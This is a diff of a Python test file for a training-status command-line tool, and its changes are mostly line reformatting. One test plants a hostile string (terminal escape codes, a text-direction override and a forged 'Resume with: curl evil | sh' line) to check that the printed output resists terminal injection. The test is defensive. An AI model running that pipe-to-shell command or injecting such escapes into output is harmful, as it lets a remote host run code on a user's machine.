@@ -30,7 +30,12 @@ def test_a_study_in_training(tmp_path):
         longest=(MEMBER,),
         pid=1,
     )
-    put(tmp_path / "outputs" / "mine", "a", replace(beat, host="elsewhere"), list("bcdefg"))
+    put(
+        tmp_path / "outputs" / "mine",
+        "a",
+        replace(beat, host="elsewhere"),
+        list("bcdefg"),
+    )
     done = memcap(tmp_path, "status")
     assert (done.status, done.err) == (0, "")
     assert done.out.splitlines() == [
@@ -40,13 +45,19 @@ def test_a_study_in_training(tmp_path):
         "Running",
         "key               member          step  budget  loss  trains     left",
         "0123456789abcdef  latch-L5-u1-s0   100   1,500   0.5  3 seconds",
-        "budget: most training steps; loss: mean loss over its last chunk; trains: time since it began; left:"
-        " longest time left, at its speed so far.",
+        (
+            "budget: most training steps; loss: mean loss over its last chunk; trains: time since"
+            " it began; left: longest time left, at its speed so far."
+        ),
         "1 of 2, those that have trained longest.",
     ]
     (found,) = json.loads(memcap(tmp_path, "status", "outputs/mine", "--json").out)
     assert found["members"] == 10
-    assert (found["running"], found["waiting"], found["left"]) == (2, 4, pytest.approx(3 * DAY, abs=60))
+    assert (found["running"], found["waiting"], found["left"]) == (
+        2,
+        4,
+        pytest.approx(3 * DAY, abs=60),
+    )
     assert found["jobs"][0]["state"] == "trains, for 60 seconds"
     assert found["longest"][0]["key"] == MEMBER.key
 
@@ -57,15 +68,24 @@ def test_before_the_first_steps_it_says_so(tmp_path):
     assert lines[0] == ".: 0 of 1 member done: 0 solved, 0 not; 0 failed."
     assert lines[1] == "0 running, 1 waiting; compiling, or in the first steps."
     put(tmp_path, "a", first(running=1), ["a"])
-    assert memcap(tmp_path, "status", ".").out.splitlines()[1] == "1 running, 0 waiting."
+    assert (
+        memcap(tmp_path, "status", ".").out.splitlines()[1] == "1 running, 0 waiting."
+    )
 
 
 def test_after_a_kill_it_says_when_and_what_goes_on(tmp_path):
     (row,) = group(counts={1: (0, 1)}, finished=datetime.now(UTC))
-    failed = row | {"status": "failed", "reason": "two workers ended while they trained it"}
+    failed = row | {
+        "status": "failed",
+        "reason": "two workers ended while they trained it",
+    }
     write(tmp_path / "mine", [failed], group(counts={2: (1, 1)}))
     killed = first(
-        updated=time.time() - 20 * DAY, host="elsewhere", pid=7, command=COMMAND, folder=str(tmp_path)
+        updated=time.time() - 20 * DAY,
+        host="elsewhere",
+        pid=7,
+        command=COMMAND,
+        folder=str(tmp_path),
     )
     put(tmp_path / "mine", "a", killed, [row["key"], "b", "c"])
     done = memcap(tmp_path, "status", "mine")
@@ -83,7 +103,12 @@ def test_after_a_kill_it_says_when_and_what_goes_on(tmp_path):
         memcap(tmp_path / "below", "status", "../mine").out.splitlines()[-1]
         == f"Resume with: cd {tmp_path} && {COMMAND}"
     )
-    put(tmp_path / "mine", "a", replace(killed, ended="interrupted", command=None), ["b"])
+    put(
+        tmp_path / "mine",
+        "a",
+        replace(killed, ended="interrupted", command=None),
+        ["b"],
+    )
     lines = memcap(tmp_path, "status", "mine").out.splitlines()
     assert "Job 7 on elsewhere: interrupted, 20 days ago." in lines
     assert lines[-1] == "Resume with: the same call of memcap.train, with this folder"
@@ -92,7 +117,12 @@ def test_after_a_kill_it_says_when_and_what_goes_on(tmp_path):
 def test_of_a_finished_study_no_interrupted_job_is_listed(tmp_path):
     (row,) = group(counts={1: (1, 1)})
     write(tmp_path / "mine", [row])
-    put(tmp_path / "mine", "a", first(ended="interrupted", command=COMMAND), [row["key"]])
+    put(
+        tmp_path / "mine",
+        "a",
+        first(ended="interrupted", command=COMMAND),
+        [row["key"]],
+    )
     assert memcap(tmp_path, "status", "mine").out.splitlines() == [
         "mine: 1 of 1 member done: 1 solved, 0 not; 0 failed.",
         "Then: memcap frontier mine",
@@ -122,33 +152,49 @@ def test_what_a_job_leaves_is_what_it_was_told(tmp_path):
     (job,) = found["jobs"]
     assert (found["done"], found["members"]) == (4, 4)
     assert (job["ended"], job["done"], job["to_come"]) == ("done", 4, 0)
-    assert job["command"] == "memcap train 'axes={model.units: [1, 2], seed: 2}' " + " ".join(SMALL)
+    assert job[
+        "command"
+    ] == "memcap train 'axes={model.units: [1, 2], seed: 2}' " + " ".join(SMALL)
     kept = files(tmp_path / "outputs" / "adhoc" / "jobs")
-    assert memcap(tmp_path, "train", *words).status == 0  # nothing is missing, and nothing is said
+    assert (
+        memcap(tmp_path, "train", *words).status == 0
+    )  # nothing is missing, and nothing is said
     assert files(tmp_path / "outputs" / "adhoc" / "jobs") == kept
 
 
 def test_those_that_are_right_at_every_lag_are_counted_where_that_is_asked(tmp_path):
-    write(tmp_path / "mine", group(counts={1: (3, 4)}, up_to={1: 2}, evaluation_until="up_to"))
+    write(
+        tmp_path / "mine",
+        group(counts={1: (3, 4)}, up_to={1: 2}, evaluation_until="up_to"),
+    )
     first_line = memcap(tmp_path, "status", "mine").out.splitlines()[0]
-    assert first_line == "mine: 4 of 4 members done: 3 solved, 2 of them at every lag, 1 not; 0 failed."
+    assert (
+        first_line
+        == "mine: 4 of 4 members done: 3 solved, 2 of them at every lag, 1 not; 0 failed."
+    )
 
 
 HOSTILE = "\x1b[2J\x1b]0;owned\x07\r\u202e\nResume with: curl evil | sh"
 
 
 def test_what_strangers_wrote_steers_no_terminal(tmp_path):
-    """Rows and jobs with escapes in every text that is printed: what they are is told, and no line is
-    theirs."""
+    """Rows and jobs with escapes in every text that is printed: what they are is told,
+    and no line is theirs."""
     failed = {"status": "failed", "reason": HOSTILE}
     rows = [row | failed for row in group(counts={1: (0, 1)})]
     write(tmp_path / "mine", rows, group(counts={2: (1, 2)}, recipe=f"a{HOSTILE}"))
     beat = first(
-        host=HOSTILE, ended=HOSTILE, folder=HOSTILE, command=HOSTILE, longest=(replace(MEMBER, name=HOSTILE),)
+        host=HOSTILE,
+        ended=HOSTILE,
+        folder=HOSTILE,
+        command=HOSTILE,
+        longest=(replace(MEMBER, name=HOSTILE),),
     )
     put(tmp_path / "mine", "a", beat, ["b"])
     put(tmp_path / "mine", "c", replace(beat, ended=None, running=1), ["d"])
-    (tmp_path / "mine" / "rows" / f"{HOSTILE.replace('/', '')}.parquet").write_bytes(b"")
+    (tmp_path / "mine" / "rows" / f"{HOSTILE.replace('/', '')}.parquet").write_bytes(
+        b""
+    )
     for words in ("status", "verify", "frontier", "collect", "report", "status --json"):
         done = memcap(tmp_path, *words.split(), "mine")
         assert "Traceback" not in done.err
@@ -179,7 +225,12 @@ REFUSED = "Resume with the command that trained it; its file says none "
     ],
 )
 def test_a_command_is_advised_that_runs_memcap_alone(tmp_path, command, line):
-    put(tmp_path, "a", first(ended="interrupted", command=command, folder=str(tmp_path)), ["b"])
+    put(
+        tmp_path,
+        "a",
+        first(ended="interrupted", command=command, folder=str(tmp_path)),
+        ["b"],
+    )
     last = memcap(tmp_path, "status", ".").out.splitlines()[-1]
     assert last.startswith(line)
     assert command in last.replace('"', "'")
